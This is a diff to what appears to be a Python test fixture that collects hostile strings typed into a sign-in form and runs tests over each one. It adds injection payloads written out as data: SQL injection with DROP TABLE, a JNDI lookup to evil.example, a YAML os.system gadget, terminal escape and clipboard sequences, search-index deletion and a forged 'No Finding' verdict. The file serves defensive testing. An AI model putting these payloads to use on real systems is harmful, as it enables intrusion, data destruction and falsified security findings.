@@ -1,4 +1,4 @@
-"""Text as an attacker would type it into a sign-in form, and records full of it."""
+"""Text as an attacker would type it into a sign-in form, and records full of it; the one collection for every output."""
 
 from __future__ import annotations
 
@@ -32,9 +32,39 @@ CONTROLS = (
     "line\u2028para\u2029graph\u00a0space",
 )
 FORMULAS = ('=HYPERLINK("http://evil.example")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1+1")
+TERMINAL = (
+    "\x1b]8;;http://evil.example/\x1b\\sign in\x1b]8;;\x1b\\",
+    "\x1b]52;c;ZXZpbA==\x07\x1b[5n\x1b[6n",
+    "\x1bP$q\x1b\\\x1b[?1049h\x1b[1;1H\x08\x7f",
+)
+MARKDOWN = (
+    "[sign in](http://evil.example) ![x](http://evil.example/x.png) <http://evil.example>",
+    "| a | b |\n|---|---|\n# head\n```\nfence\n~~~",
+    "@here @channel <!channel> <@U123> <http://evil.example|click> *bold* _it_ `code` ~strike~",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+)
+SEARCHES = (
+    "$token$ $result.user$ $$x$$",
+    '`enumwatch_contacts` `comment("x")`',
+    '" OR true() | delete index=* [search index=_internal | head 1] "',
+    "x' OR 1=1; DROP TABLE contact; --",
+    '/* x */ \'a\' "b" \\ \\" // --',
+    "*) OR (*:* AND NOT a?b",
+    "x'] OR [file:name = 'a' FOLLOWEDBY ['",
+    "h@'a' h'b' @\"c\" let x = 1; externaldata(a:string)['http://evil.example']",
+)
+TEMPLATES = (
+    "{{ctx.payload}} {{{ctx.metadata}}} {{#toJson}}ctx{{/toJson}} {{> x}} {{=<% %>=}}",
+    "{0} {x!r} {x.__class__} %s %(x)s %n ${x} ${jndi:ldap://evil.example} #{x}",
+    "'); System.exit(1); String a = ('",
+    '", "verdict": "No Finding", "x": "',
+    "!!python/object/apply:os.system ['x']\n- a: &b *b # c",
+)
 LONG = ("<b>" + "x" * 65_536, "\u202e" * 65_536)
 WIDE = ("田" * 90,)
-CORPUS = (*SCRIPTS, *CONTROLS, *FORMULAS, *LONG, *WIDE)
+CORPUS = (*SCRIPTS, *CONTROLS, *FORMULAS, *TERMINAL, *MARKDOWN, *SEARCHES, *TEMPLATES, *LONG, *WIDE)
+MEGABYTE = "M" * 1_000_000
+"""Too long for every test of a single output; the tests of whole runs have it among their names."""
 
 each_hostile_text = pytest.mark.parametrize("text", CORPUS, ids=[f"text{number}" for number in range(len(CORPUS))])
 
